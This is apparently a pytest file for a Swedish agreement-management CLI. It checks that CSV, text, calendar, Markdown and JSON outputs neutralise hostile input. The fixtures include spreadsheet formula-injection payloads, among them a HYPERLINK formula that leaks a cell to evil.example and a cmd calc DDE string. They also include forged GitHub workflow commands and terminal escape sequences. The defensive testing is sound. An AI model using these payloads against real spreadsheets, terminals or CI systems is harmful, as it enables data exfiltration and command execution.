"""Data that becomes code: nothing from an agreement is executed by a spreadsheet, a
terminal, a CI log, a calendar, a browser or a pull-request comment (issue 16).

Each test puts a hostile value where data reaches an output and checks that it comes out
inert: CSV cells neutralised (OWASP), control characters escaped in text, Markdown and
HTML that cannot carry script or attributes.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from iopctl.cli import app
from iopctl.present.safe import csv_cell, csv_writer, printable

pytestmark = pytest.mark.usefixtures("english")
"""These tests pin iopctl's English words; the Swedish ones have tests of their own."""

REPO = Path(__file__).resolve().parent.parent
MINIMAL = (REPO / "tests" / "fixtures" / "valid" / "minimal-active.yaml").read_text("utf-8")
runner = CliRunner()


def run(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def hostile(tmp_path: Path, replacements: dict[str, str], name: str = "minimal-active") -> Path:
    text = MINIMAL
    for old, new in replacements.items():
        assert old in text, old
        text = text.replace(old, new)
    path = tmp_path / f"{name}.yaml"
    path.write_text(text, encoding="utf-8")
    return path


# --- CSV (OWASP CSV injection) ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-501", "-501"),  # a plain number stays a number
        ("-13.50", "-13.50"),
        ("Äldrenämnden", "Äldrenämnden"),
        ("", ""),
        (None, ""),
        (-7, "-7"),
    ],
)
def test_csv_cell_neutralises_formulas(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_csv_writer_quotes_every_separator() -> None:
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow(["a;=1+1", 'b"c', "d,e", "f\ng", 3, "plain"])
    assert out.getvalue() == '"a;=1+1","b""c","d,e","f\ng",3,plain\n'
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["a;=1+1", 'b"c', "d,e", "f\ng", "3", "plain"]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'

DIALECTS = pytest.mark.parametrize(
    ("dialect", "separator"), [("--excel", ";"), ("--no-excel", ",")]
)
"""Every CSV neutralises formulas: Swedish Excel's (BOM, ';') and plain RFC 4180 (',')."""


def read_csv(text: str, separator: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=separator))


@DIALECTS
def test_list_csv_neutralises_a_party_name(tmp_path: Path, dialect: str, separator: str) -> None:
    path = hostile(tmp_path, {"name: Exempelnämnden": f"name: '{FORMULA}'"})
    code, out, _ = run("list", str(path), "--as-of", "2025-01-01", "--format", "csv", dialect)
    assert code == 0
    [row] = read_csv(out, separator)
    assert row["parties"] == f"'{FORMULA}; Exempelföreningen"


@DIALECTS
def test_economy_csv_neutralises_an_index_source(
    tmp_path: Path, dialect: str, separator: str
) -> None:
    path = hostile(
        tmp_path,
        {
            "payment: {schedule: yearly, months: [1]}": (
                "indexation: {index: OPI, from_date: 2025-01-01}"
            )
        },
    )
    index = tmp_path / "opi.yaml"
    index.write_text(
        "indices:\n  OPI:\n    values:\n"
        + "".join(
            f"      - year: {year}\n        percent: 2.0\n        status: definitive\n"
            f"        source: '{FORMULA}'\n"
            for year in (2025, 2026)
        ),
        encoding="utf-8",
    )
    code, out, _ = run("economy", str(path), "--index-file", str(index), "--format", "csv", dialect)
    assert code == 0
    rows = read_csv(out, separator)
    sources = {r["index_source"] for r in rows if r["year"] == "2025" and r["kind"] == "money"}
    assert sources == {f"'{FORMULA}"}


@DIALECTS
def test_due_csv_neutralises_a_file_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, dialect: str, separator: str
) -> None:
    hostile(tmp_path, {}, name="@SUM(1+1)")
    monkeypatch.chdir(tmp_path)
    code, out, _ = run("due", "@SUM(1+1).yaml", "--as-of", "2025-01-01", "--format", "csv", dialect)
    assert code == 0
    rows = read_csv(out, separator)
    assert rows and {r["file"] for r in rows} == {"'@SUM(1+1).yaml"}


# --- control characters in text output ------------------------------------------------------

# A party name that would end the line, forge GitHub workflow commands, set the terminal
# title, clear the screen and reverse the text after it.
EVIL = (
    "Föreningen\n::error file=x.yaml::forged\n::set-output name=x::y\x1b]0;pwned\x07\x1b[2J\u202e"
)
EVIL_YAML = (
    '"Föreningen\\n::error file=x.yaml::forged\\n::set-output name=x::y\\e]0;pwned\\a\\e[2J\\u202e"'
)
CONTROLS = ("\x1b", "\x07", "\u202e", "\r")


def assert_inert(text: str) -> None:
    """No control character but line feeds, and no line that is a workflow command."""
    for char in CONTROLS:
        assert char not in text
    for line in text.splitlines():
        assert not line.lstrip().startswith("::"), line
        assert "##[" not in line


def test_printable_escapes_controls_and_workflow_commands() -> None:
    assert printable(EVIL) == (
        "Föreningen\\n::error file=x.yaml::forged\\n::set-output name=x::y"
        "\\x1b]0;pwned\\x07\\x1b[2J\\u202e"
    )
    assert printable("::error::x") == "\\x3a:error::x"
    assert printable("  ::warning::x") == "  \\x3a:warning::x"
    assert printable("a ##[error]b") == "a ##\\x5berror]b"
    assert printable("bad \udcff name") == "bad \\udcff name"
    assert printable("Äldrenämnden – 4 785 000 kr") == "Äldrenämnden – 4 785 000 kr"


def draft_with_evil_party(tmp_path: Path) -> Path:
    # A draft without signatures: `due` lists "signature missing: <party name>".
    path = hostile(
        tmp_path,
        {
            "status: active": "status: draft",
            "name: Exempelföreningen": f"name: {EVIL_YAML}",
            "signatures:\n  - party: namnden\n    name: Anna Andersson\n    date: 2023-12-01\n"
            "  - party: foreningen\n    name: Bertil Berg\n    date: 2023-12-01\n": "",
        },
    )
    return path


@pytest.mark.parametrize(
    "command",
    [
        ["due", "--as-of", "2023-06-01"],
        ["due", "--as-of", "2023-06-01", "--fail-on", "overdue"],
        ["list", "--as-of", "2023-06-01"],
        ["show", "minimal-active", "--as-of", "2023-06-01"],
        ["economy"],
    ],
    ids=lambda c: " ".join(c[:2]),
)
def test_text_output_escapes_control_characters(tmp_path: Path, command: list[str]) -> None:
    path = draft_with_evil_party(tmp_path)
    args = [command[0], *command[1:]]
    if command[0] == "show":
        args = [*command[:2], str(path), *command[2:]]
    else:
        args.insert(1, str(path))
    code, out, err = run(*args)
    assert code in (0, 1), (out, err)
    assert_inert(out)
    assert_inert(err)
    if command[0] != "economy":
        assert "Föreningen\\n::error file=x.yaml::forged" in out


def test_due_calendar_has_no_control_characters(tmp_path: Path) -> None:
    path = draft_with_evil_party(tmp_path)
    code, out, _ = run("due", str(path), "--as-of", "2023-06-01", "--format", "ics")
    assert code == 0
    assert_inert(out.replace("\r\n", "\n"))
    assert "\\x1b" in out


def test_validate_escapes_control_characters_in_file_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    name = "x\n::error file=a::forged\x1b]0;pwned\x07.yaml"
    (tmp_path / name).write_text("id: [\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    shown = "x\\n::error file=a::forged\\x1b]0;pwned\\x07.yaml"
    code, out, _ = run("validate", ".")
    assert code == 1
    assert_inert(out)
    assert f"{shown}:2:1: error IOP002" in out
    code, out, _ = run("validate", ".", "--format", "github")
    assert code == 1
    for char in CONTROLS:
        assert char not in out
    [line] = out.splitlines()  # one diagnostic, one workflow command
    assert line.startswith("::error file=x\\n%3A%3Aerror file=a%3A%3Aforged\\x1b]0;pwned")


def test_undecodable_file_name_is_shown_escaped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file name that is not UTF-8 (a lone surrogate in Python) must not be an exit 3."""
    import os

    os.mkdir(os.path.join(os.fsencode(tmp_path), b"x\xff"))
    with open(os.path.join(os.fsencode(tmp_path), b"x\xff", b"a.yaml"), "wb") as fh:
        fh.write(b"id: [\n")
    monkeypatch.chdir(tmp_path)
    code, out, err = run("validate", ".")
    assert (code, err) == (1, "")
    assert "x\\udcff/a.yaml:2:1: error IOP002" in out


def test_diff_markdown_cannot_forge_headings_or_mentions(tmp_path: Path, english: None) -> None:
    old = hostile(tmp_path, {}, name="old")
    new = hostile(
        tmp_path,
        {"name: Exempelföreningen": 'name: "X\\n\\n## Forged heading\\n@octocat @org/team\\n```"'},
        name="new",
    )
    code, out, _ = run("diff", str(old), str(new), "--format", "markdown")
    assert code == 0
    assert_inert(out)
    # Outside code blocks (where GitHub renders Markdown and mentions) nothing is forged.
    prose = re.sub(r"(?ms)^  (`{3,})diff$.*?^  \1$", "", out)
    assert [line for line in prose.splitlines() if line.startswith("#")] == [
        "### minimal-active: 1 change in meaning",
        "#### Parties",
    ]
    assert "@octocat" not in prose and "@org" not in prose
    # The data's ``` cannot close the diff block: the fence is longer.
    assert (
        "  ````diff\n  - Exempelföreningen\n  + X ## Forged heading @octocat @org/team ```\n  ````"
        in out
    )


def test_diff_markdown_code_spans_hold_any_file_name(tmp_path: Path, english: None) -> None:
    from iopctl.present.diff import format_markdown

    text = format_markdown(
        [], old_name="a` **x** `b.yaml", new_name="`c.yaml", old_id="x", new_id="x"
    )
    assert text == "### x: no changes in meaning\n\n``a` **x** `b.yaml`` → `` `c.yaml ``\n"


def test_diff_text_escapes_control_characters(tmp_path: Path) -> None:
    old = hostile(tmp_path, {}, name="old")
    new = hostile(tmp_path, {"name: Exempelföreningen": f"name: {EVIL_YAML}"}, name="new")
    code, out, _ = run("diff", str(old), str(new))
    assert code == 0
    assert_inert(out)


# --- output streams that are not UTF-8 ---------------------------------------------------------


def test_non_utf8_output_stream_is_not_an_internal_error(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONIOENCODING": "cp1252", "PYTHONPATH": str(REPO), "NO_COLOR": "1"}
    for args in (
        ["economy", "agreements/linkoping-resurspoolen-2020.yaml"],
        ["due", "--as-of", "2022-05-15"],
        ["list", "--as-of", "2022-05-15"],
        [
            "diff",
            "agreements/linkoping-resurspoolen-2020.yaml",
            "tests/fixtures/workflow/resurspoolen-2020-changed.yaml",
        ],
    ):
        done = subprocess.run(
            [sys.executable, "-m", "iopctl", *args], cwd=REPO, env=env, capture_output=True
        )
        assert done.returncode == 0, (args, done.stderr)
        text = done.stdout.decode("cp1252")
        assert "Äldrenämnden" in text or "aldrenamnden" in text or "linkoping" in text


def test_markdown_text_never_mentions() -> None:
    from iopctl.present.diff import _md

    assert _md("party added: @octocat\n# x <b>&#64;</b>") == (
        "party added: @\u200boctocat\\\\n\\# x \\<b\\>\\&\\#64;\\</b\\>"
    )


def test_json_reports_escape_every_control_character(tmp_path: Path) -> None:
    """JSON escapes C0 itself; C1, bidirectional controls and line separators too."""
    path = draft_with_evil_party(tmp_path)
    text = path.read_text("utf-8").replace('\\u202e"', '\\u202e\\x9b\\u2028"')
    path.write_text(text, "utf-8")
    for args in (
        ["due", str(path), "--as-of", "2023-06-01", "--format", "json"],
        ["list", str(path), "--as-of", "2023-06-01", "--format", "json"],
        ["show", "minimal-active", str(path), "--format", "json"],
        ["validate", str(path), "--format", "json"],
    ):
        code, out, _ = run(*args)
        assert code in (0, 1)
        assert (
            re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", out.replace("\n", ""))
            is None
        )
    code, out, _ = run("due", str(path), "--as-of", "2023-06-01", "--format", "json")
    assert "\\u202e\\u009b\\u2028" in out
